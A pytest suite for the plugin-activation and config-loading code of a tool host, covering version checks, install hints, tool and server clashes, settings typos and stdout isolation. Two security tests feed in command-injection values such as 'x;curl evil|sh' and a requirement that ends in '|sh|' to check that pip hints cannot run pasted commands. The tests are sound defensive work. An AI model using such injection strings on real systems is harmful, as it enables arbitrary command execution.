"""activate(): enabled plugins only, and every failure named with the config's line."""

from __future__ import annotations

import json
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from toolhost.config import load_config
from toolhost.config.model import HostConfig, Origin, PluginRequirement, ServerConfig
from toolhost.errors import ConfigError, PluginError
from toolhost.plugins import PluginConfigError, activate

GREET = """
    from toolhost.plugins import Registry, tool

    @tool(name="hello", annotations={"readOnlyHint": True})
    def greet(name: str) -> str:
        '''Say hello.'''
        return "hello " + name

    def register(registry: Registry) -> None:
        registry.add_server("greet", description="Greetings")
        registry.add_tool(greet, server="greet")
        registry.add_rules(allow=["mcp__greet__*"], deny=[{"tool": "mcp__greet__hello",
                           "when": {"name": "root"}, "message": "no"}])
"""

MakePlugin = Callable[..., Path]
AT = Origin(file="team.yaml", line=4, column=5, key_path="plugins[0]")


def req(name: str, spec: str = "") -> PluginRequirement:
    return PluginRequirement(name, spec, AT)


def test_enabled_plugin_contributes_servers_tools_and_rules(make_plugin: MakePlugin) -> None:
    make_plugin("toolhost-greet", "1.2.0", modules={"greet_plugin": GREET})
    plugins = activate([req("toolhost_greet", ">=1,<2")])
    assert [(p.name, p.version) for p in plugins.plugins] == [("toolhost-greet", "1.2.0")]
    assert plugins.plugins[0].provides["tools"] == ["mcp__greet__hello"]

    config = plugins.apply(HostConfig(version=1, servers={}))
    tool = config.servers["greet"].tools["hello"]
    assert tool.backend.kind == "python"
    assert tool.backend.options == {"function": "greet_plugin:greet"}
    assert tool.annotations == {"readOnlyHint": True}
    assert tool.origin.file.endswith("greet_plugin.py") and tool.origin.line > 0
    assert config.servers["greet"].description == "Greetings"
    rules = config.permissions.rules
    assert [(r.effect, r.tool, r.layer) for r in rules] == [
        ("deny", "mcp__greet__hello", "plugin:toolhost-greet"),
        ("allow", "mcp__greet__*", "plugin:toolhost-greet")]
    assert rules[0].when == {"name": "root"}


def test_config_declarations_win_over_plugin_ones(make_plugin: MakePlugin) -> None:
    make_plugin("toolhost-greet", modules={"greet_plugin": GREET})
    plugins = activate([req("toolhost-greet")])
    mine = ServerConfig(name="greet", description="mine")
    config = plugins.apply(HostConfig(version=1, servers={"greet": mine}))
    assert config.servers["greet"].description == "mine"
    assert set(config.servers["greet"].tools) == set()  # the plugin's tool is left out


def test_missing_plugin_names_the_package_to_install() -> None:
    with pytest.raises(PluginConfigError) as info:
        activate([req("toolhost-absent", ">=0.3")])
    (problem,) = info.value.problems
    assert (problem.file, problem.line, problem.key_path) == ("team.yaml", 4, "plugins[0]")
    assert "'toolhost-absent' is not installed" in problem.message
    assert problem.hint == "pip install 'toolhost-absent>=0.3'"
    assert isinstance(info.value, ConfigError) and isinstance(info.value, PluginError)


def test_incompatible_version_says_installed_and_needed(make_plugin: MakePlugin) -> None:
    make_plugin("toolhost-greet", "1.2.0", modules={"greet_plugin": GREET})
    with pytest.raises(PluginConfigError) as info:
        activate([req("toolhost-greet", ">=2")])
    text = str(info.value)
    assert "team.yaml:4:5: plugins[0]:" in text
    assert "'toolhost-greet' 1.2.0 is installed, but the config needs 'toolhost-greet>=2'" in text
    assert "greet_plugin" not in sys.modules  # not imported when incompatible


def test_raising_plugin_is_reported_by_name_and_can_be_left_out(
        make_plugin: MakePlugin) -> None:
    make_plugin("toolhost-greet", modules={"greet_plugin": GREET})
    make_plugin("toolhost-broken", "0.1", modules={"broken_plugin": """
        def register(registry):
            registry.add_kind(object())
    """})
    make_plugin("toolhost-crash", "0.2", modules={"crash_plugin": "raise RuntimeError('boom')\n"})
    reqs = [req("toolhost-broken"), req("toolhost-greet"), req("toolhost-crash")]
    with pytest.raises(PluginConfigError) as info:
        activate(reqs)
    messages = [p.message for p in info.value.problems]
    assert len(messages) == 2
    assert "plugin 'toolhost-broken' 0.1 failed while registering: PluginError" in messages[0]
    assert "'toolhost-crash' 0.2 failed while registering: RuntimeError: boom" in messages[1]

    tolerant = activate(reqs, strict=False)
    assert [p.name for p in tolerant.plugins] == ["toolhost-greet"]
    assert len(tolerant.problems) == 2


def test_bad_specifier_and_non_plugin_package(make_plugin: MakePlugin) -> None:
    with pytest.raises(PluginConfigError) as info:
        activate([req("toolhost-x", "=>1"), req("toolhost"), req("packaging")])
    messages = [p.message for p in info.value.problems]
    assert messages[0] == "invalid version constraint '=>1'"
    assert "toolhost itself is always enabled" in messages[1]
    assert "package 'packaging' " in messages[2]
    assert "is installed but is not a toolhost plugin" in messages[2]


def test_two_plugins_with_the_same_tool_clash(make_plugin: MakePlugin) -> None:
    make_plugin("toolhost-greet", modules={"greet_plugin": GREET})
    make_plugin("toolhost-greet2", modules={"greet_plugin2": GREET})
    with pytest.raises(PluginConfigError, match="which 'toolhost-greet' already provides"):
        activate([req("toolhost-greet"), req("toolhost-greet2")])


def test_builtin_kinds_register_through_the_entry_point() -> None:
    import importlib.metadata as md

    from toolhost.backends.registry import builtin_kinds

    (ep,) = [e for e in md.entry_points(group="toolhost") if e.dist and e.dist.name == "toolhost"]
    assert ep.value == "toolhost.backends.builtins"
    plugins = activate([])
    assert set(plugins.kinds) == set(builtin_kinds())
    assert plugins.plugins == () and plugins.builtins is not None
    assert plugins.builtins.provides["kinds"] == sorted(builtin_kinds())


def test_a_misspelt_plugin_suggests_the_installed_one_not_pip(make_plugin: MakePlugin) -> None:
    # `pip install <typo>` could install somebody else's package: name the installed plugin
    make_plugin("toolhost-greet", modules={"greet_plugin": GREET})
    with pytest.raises(PluginConfigError) as info:
        activate([req("toolhost-gret")])
    (problem,) = info.value.problems
    assert problem.message == "plugin 'toolhost-gret' is not installed"
    assert problem.hint == "did you mean 'toolhost-greet', which is installed?"


SETTINGS = """
    from toolhost.plugins import Registry

    def register(registry: Registry) -> None:
        registry.set_settings_schema({"type": "object", "additionalProperties": False,
                                      "properties": {"root": {"type": "string"},
                                                     "depth": {"type": "integer"}}})
"""


def test_an_unknown_setting_is_named_with_a_hint(make_plugin: MakePlugin,
                                                 tmp_path: Path) -> None:
    from toolhost.config import load_config

    make_plugin("toolhost-greet", modules={"greet_plugin": SETTINGS})
    config = tmp_path / "c.yaml"
    config.write_text("toolhost: 1\nplugins: [toolhost-greet]\nsettings:\n"
                      "  toolhost-greet: {rot: ., depth: 2}\n")
    with pytest.raises(ConfigError) as info:
        load_config(config, layers=False)
    (problem,) = info.value.problems
    assert (problem.line, problem.key_path) == (4, "settings.toolhost-greet.rot")
    assert (problem.message, problem.hint) == ("unknown setting", "did you mean 'root'?")


@pytest.mark.parametrize("name", ["toolhost-gret", "toolhost_greeet", "Toolhost-Greett"])
def test_settings_under_a_misspelt_plugin_name_are_refused(make_plugin: MakePlugin,
                                                           tmp_path: Path, name: str) -> None:
    # they were ignored: the plugin ran with its defaults (a root of the whole project)
    from toolhost.config import load_config

    make_plugin("toolhost-greet", modules={"greet_plugin": SETTINGS})
    config = tmp_path / "c.yaml"
    config.write_text("toolhost: 1\nplugins: [toolhost-greet]\nsettings:\n"
                      f"  {name}: {{root: ./docs}}\n  toolhost-other: {{x: 1}}\n")
    with pytest.raises(ConfigError) as info:
        load_config(config, layers=False)
    (problem,) = info.value.problems  # a plugin not enabled at all: left alone
    assert (problem.line, problem.column, problem.key_path) == (4, 3, f"settings.{name}")
    assert problem.message == (f"settings for '{name}', which is not an enabled plugin: "
                               "'toolhost-greet' would run with its defaults")
    assert problem.hint == "did you mean 'toolhost-greet'?"


def test_settings_of_another_installed_plugin_are_no_typo(make_plugin: MakePlugin,
                                                          tmp_path: Path) -> None:
    # a person's layer sets up toolhost-greets, which this project does not enable
    from toolhost.config import load_config

    make_plugin("toolhost-greet", modules={"greet_plugin": SETTINGS})
    make_plugin("toolhost-greets", modules={"greets_plugin": SETTINGS})
    config = tmp_path / "c.yaml"
    config.write_text("toolhost: 1\nplugins: [toolhost-greet]\nsettings:\n"
                      "  toolhost-greets: {root: ./docs}\n")
    load_config(config, layers=False)  # a near miss of toolhost-greet, and no typo


@pytest.mark.parametrize("raised", [
    "class Boom(BaseException):\n    pass\nraise Boom('boom')",
    "raise SystemExit(3)", "raise GeneratorExit('g')", "import sys\nsys.exit('bye')",
    "raise BaseExceptionGroup('grp', [ValueError('v')])"
    if sys.version_info >= (3, 11) else "raise SystemExit('grp')"])
@pytest.mark.parametrize("where", ["import", "register"])
def test_a_base_exception_from_a_plugin_is_one_line_naming_it(
        tmp_path: Path, make_plugin: MakePlugin, raised: str, where: str) -> None:
    """The command line, in this process: a SystemExit that escaped would end the test."""
    import contextlib
    import io
    import textwrap

    from toolhost.cli import main

    body = textwrap.indent(raised, "    ")
    source = (f"{raised}\n" if where == "import"
              else f"def register(registry):\n{body}\n")
    make_plugin("toolhost-raiser", "1.0", modules={"raiser_plugin": source})
    config = tmp_path / "toolhost.yaml"
    config.write_text("toolhost: 1\nplugins: [toolhost-raiser]\n")
    err = io.StringIO()
    with contextlib.redirect_stdout(io.StringIO()), contextlib.redirect_stderr(err):
        code = main(["validate", str(config)])
    assert code == 1, err.getvalue()
    assert "internal error" not in err.getvalue() and "Traceback" not in err.getvalue()
    assert "toolhost.yaml:2:11: plugins[0]: plugin 'toolhost-raiser' 1.0 failed while " \
           "registering" in err.getvalue()


SERVER_PLUGIN = '''
    def {tool}() -> str:
        """A tool."""
        return "{tool}"

    def register(reg):
        reg.add_server("shared", description="{dist}'s", timeout=5)
        reg.add_tool({tool}, server="shared")
'''


def test_two_plugins_declaring_the_same_server_clash(make_plugin: MakePlugin) -> None:
    """The second plugin's server (its description, timeout, external command) was dropped
    without a word and its tools put under the first plugin's server."""
    for dist, module, tool in (("toolhost-one", "one_plugin", "first"),
                               ("toolhost-two", "two_plugin", "second")):
        make_plugin(dist, modules={module: SERVER_PLUGIN.format(tool=tool, dist=dist)})
    with pytest.raises(PluginConfigError) as info:
        activate([req("toolhost-one"), req("toolhost-two")])
    (problem,) = info.value.problems
    assert problem.message == ("plugin 'toolhost-two' adds server 'shared', which "
                               "'toolhost-one' already provides")


@pytest.mark.parametrize("name", ["toolhost-files", "Toolhost_SQLite"])
def test_a_missing_example_plugin_is_installed_from_the_clone_not_the_index(name: str) -> None:
    """The example plugins are not on the package index: `pip install toolhost-files` would
    install whatever someone published under that name."""
    from toolhost.plugins.activate import _missing

    problem = _missing(req(name), {})  # as when it is not installed
    assert problem.message == f"plugin '{name}' is not installed"
    assert "pip install plugins/toolhost-" in problem.hint and "toolhost's clone" in problem.hint
    assert f"pip install {name}" not in problem.hint


def test_a_plugin_printing_at_import_or_register_leaves_stdout_alone(
        make_plugin: MakePlugin, capsys: pytest.CaptureFixture[str]) -> None:
    # stdout is what `tools --json`, `plugins --json` and `mcp-config > .mcp.json` print
    loud = GREET.replace("def register(registry: Registry) -> None:\n",
                         "print('imported')\n\n    def register(registry: Registry) -> None:\n"
                         "        print('registering')\n")
    make_plugin("toolhost-loud", modules={"loud_plugin": loud})
    plugins = activate([req("toolhost-loud")])
    assert plugins.plugins[0].provides["tools"] == ["mcp__greet__hello"]
    out, err = capsys.readouterr()
    assert out == ""
    assert "imported" in err and "registering" in err


def test_a_plugin_writing_to_fd_1_or_starting_a_child_leaves_stdout_alone(
        make_plugin: MakePlugin, capfd: pytest.CaptureFixture[str]) -> None:
    """``os.write(1, ...)`` at import and a child process inheriting fd 1 in register():
    under `tools --json` or `mcp-config > .mcp.json` fd 1 is the output a program parses."""
    loud = GREET.replace("def register(registry: Registry) -> None:\n",
                         "import os, subprocess, sys\n"
                         "    os.write(1, b'fd-import\\n')\n\n"
                         "    def register(registry: Registry) -> None:\n"
                         "        subprocess.run([sys.executable, '-c', 'print(\"child\")'])\n")
    make_plugin("toolhost-fdloud", modules={"fdloud_plugin": loud})
    print("before", flush=True)
    plugins = activate([req("toolhost-fdloud")])
    print("after", flush=True)
    assert plugins.plugins[0].provides["tools"] == ["mcp__greet__hello"]
    out, err = capfd.readouterr()
    assert out == "before\nafter\n"
    assert "fd-import" in err and "child" in err


def test_a_reload_thread_leaves_the_sessions_stdout_alone(
        make_plugin: MakePlugin, capfd: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    """A reload (`run --watch`) activates plugins on a thread of its own while the session
    prints the model's answers: what the session prints meanwhile stays on stdout."""
    entered, go = tmp_path / "entered", tmp_path / "go"
    slow = GREET.replace("def register(registry: Registry) -> None:\n",
                         "def register(registry: Registry) -> None:\n"
                         "        import pathlib, time\n"
                         f"        pathlib.Path({str(entered)!r}).touch()\n"
                         "        end = time.monotonic() + 10\n"
                         f"        while not pathlib.Path({str(go)!r}).exists()"
                         " and time.monotonic() < end:\n"
                         "            time.sleep(0.01)\n")
    make_plugin("toolhost-slowreg", modules={"slowreg_plugin": slow})
    done: list[Any] = []
    thread = threading.Thread(target=lambda: done.append(activate([req("toolhost-slowreg")])))
    thread.start()
    end = time.monotonic() + 10
    while not entered.exists() and time.monotonic() < end:
        time.sleep(0.01)
    print("during", flush=True)  # the session's answer, while the plugin registers
    go.touch()
    thread.join(15)
    assert done and done[0].plugins[0].provides["tools"] == ["mcp__greet__hello"]
    out, _err = capfd.readouterr()
    assert "during" in out


@pytest.mark.parametrize("register", [
    "async def register(registry):\n    registry.add_rules(deny=['Bash'])\n",
    "def register(registry):\n    registry.add_rules(deny=['Bash'])\n    yield\n",
    "async def register(registry):\n    registry.add_rules(deny=['Bash'])\n    yield\n",
], ids=["async", "generator", "async-generator"])
def test_a_register_hook_whose_body_never_runs_is_refused(make_plugin: MakePlugin,
                                                          register: str) -> None:
    """Calling an ``async def`` or a generator ``register`` runs none of its body: the
    plugin was enabled with nothing registered, its deny rule silently missing."""
    make_plugin("toolhost-lazy", modules={"lazy_plugin": register})
    with pytest.raises(PluginConfigError) as info:
        activate([req("toolhost-lazy")])
    (problem,) = info.value.problems
    assert problem.line == 4 and "plugin 'toolhost-lazy' 1.0.0 failed while registering" in \
        problem.message
    assert "register() of 'lazy_plugin' is a" in problem.message
    assert "none of its body ran (make it a plain def)" in problem.message


def test_a_thread_the_hook_left_behind_adds_nothing_later(make_plugin: MakePlugin) -> None:
    """What a config gets is what ``register`` added while it ran: a rule or tool added
    afterwards from a thread would reach one load and not another."""
    late = GREET + """
    import threading
    failures = []
    go = threading.Event()

    def later(registry):
        go.wait(10)
        try:
            registry.add_rules(allow=["mcp__greet__hello"])
        except Exception as exc:
            failures.append(str(exc))

    def register(registry: Registry) -> None:
        registry.add_server("greet", description="Greetings")
        registry.add_tool(greet, server="greet")
        worker = threading.Thread(target=later, args=(registry,))
        worker.start()
        registry.worker = worker
"""
    make_plugin("toolhost-late", modules={"late_plugin": late})
    plugins = activate([req("toolhost-late")])
    (reg,) = plugins.registries
    module = sys.modules["late_plugin"]
    module.go.set()
    reg.worker.join(10)  # type: ignore[attr-defined]
    assert reg.rules == []
    assert module.failures == ["plugin 'toolhost-late': add_rules() after register() "
                               "returned; everything is added while register(registry) runs"]


@pytest.mark.parametrize("written", [
    "\"toolhost-q===1'|sh|'\"",  # `===` takes any text but a space, ';' or ')'
    "{name: toolhost-q, version: \"===1'`id`'\"}",
])
def test_a_pip_hint_pasted_into_a_shell_installs_what_it_says(tmp_path: Path,
                                                              written: str) -> None:
    """A fragment of a team's repository writes the requirement; the hint is pasted."""
    import shlex

    config = tmp_path / "toolhost.yaml"
    config.write_text(f"toolhost: 1\nplugins: [{written}]\n")
    with pytest.raises(ConfigError) as info:
        load_config(config, layers=False)
    (problem,) = info.value.problems
    assert problem.message == "plugin 'toolhost-q' is not installed"
    words = shlex.split(problem.hint)
    assert words[:2] == ["pip", "install"] and len(words) == 3, problem.hint
    assert words[2].startswith("toolhost-q===1'")


@pytest.mark.parametrize("name", ["x;curl evil|sh", "a b", "x'y", "-e.", "x-"])
def test_a_plugin_name_that_is_no_distribution_name_is_refused_at_its_line(
        tmp_path: Path, name: str) -> None:
    """The mapping form took any string, which then went into `pip install NAME`."""
    config = tmp_path / "toolhost.yaml"
    config.write_text(f"toolhost: 1\nplugins:\n  - name: {json.dumps(name)}\n")
    with pytest.raises(ConfigError) as info:
        load_config(config, layers=False)
    (problem,) = info.value.problems
    assert (problem.line, problem.key_path) == (3, "plugins[0].name")
    assert problem.message == f"invalid plugin name {name!r}" and "pip" not in problem.hint


def test_a_version_past_pythons_digit_limit_is_a_located_problem(
        make_plugin: MakePlugin, tmp_path: Path) -> None:
    # packaging reads each part of a version as an int: 5,000 digits raised ValueError, an
    # internal error, from the installed metadata or from the config's own requirement
    long = "9" * 5000
    site = make_plugin("toolhost-greet", "1.0", modules={"greet_plugin": GREET})
    meta = next(site.glob("toolhost_greet-*.dist-info")) / "METADATA"
    meta.write_text(meta.read_text().replace("Version: 1.0", f"Version: {long}"))
    for spec in ("==1.0", f"=={long}"):
        with pytest.raises(PluginConfigError) as info:
            activate([req("toolhost-greet", spec)])
        (problem,) = info.value.problems
        assert "is installed, but the config needs 'toolhost-greet==" in problem.message
        assert f"greet' {long[:100]}…4,900 more characters is installed" in problem.message
    config = tmp_path / "c.yaml"
    config.write_text(f'toolhost: 1\nplugins: ["toolhost-greet=={long}"]\n')
    with pytest.raises(ConfigError) as error:
        load_config(str(config), layers=False)
    assert ("c.yaml:2:11: plugins[0]: invalid version specifier: a number of more than 4,000 "
            "digits in '==99") in str(error.value)


# every way out that skips the handlers: os._exit, the same function under posix (which the
# os._exit guard did not cover), and replacing the process by an exec (the program's exit 0)
ENDS = {"os._exit": ("os._exit(0)", "os._exit(0)"),
        "posix._exit": ("posix._exit(0)", "os._exit(0)"),
        "os.execv": ("os.execv(sys.executable, [sys.executable, '-c', ''])", "os.execv("),
        "posix.execve": ("posix.execve(sys.executable, [sys.executable, '-c', ''], {})",
                         "os.execve(")}


@pytest.mark.parametrize("end", sorted(ENDS))
@pytest.mark.parametrize("where", ["import", "register"])
def test_a_plugin_calling_os_exit_never_looks_like_success(
        tmp_path: Path, make_plugin: MakePlugin, where: str, end: str) -> None:
    """``os._exit(0)`` skips every handler: it ended validate with exit 0 and no output.
    (A subprocess: in this process it would end the test run itself, with exit 0.)"""
    import subprocess

    call, said = ENDS[end]
    body = f"import os, posix, sys\n{call}\n"
    source = (body if where == "import" else
              "def register(registry):\n" + "".join(f"    {line}\n" for line in body.split("\n")
                                                     if line))
    make_plugin("toolhost-quitter", "1.0", modules={"quitter_plugin": source})
    config = tmp_path / "toolhost.yaml"
    config.write_text("toolhost: 1\nplugins: [toolhost-quitter]\n")
    done = subprocess.run([sys.executable, "-m", "toolhost", "validate", str(config)],
                          capture_output=True, text=True, timeout=120, check=False,
                          stdin=subprocess.DEVNULL)
    assert done.returncode == 1, (done.stdout, done.stderr)
    assert "toolhost.yaml:2:11: plugins[0]: plugin 'toolhost-quitter' 1.0 failed while " \
           f"registering: PluginError: it called {said}" in done.stderr
    assert "Traceback" not in done.stderr
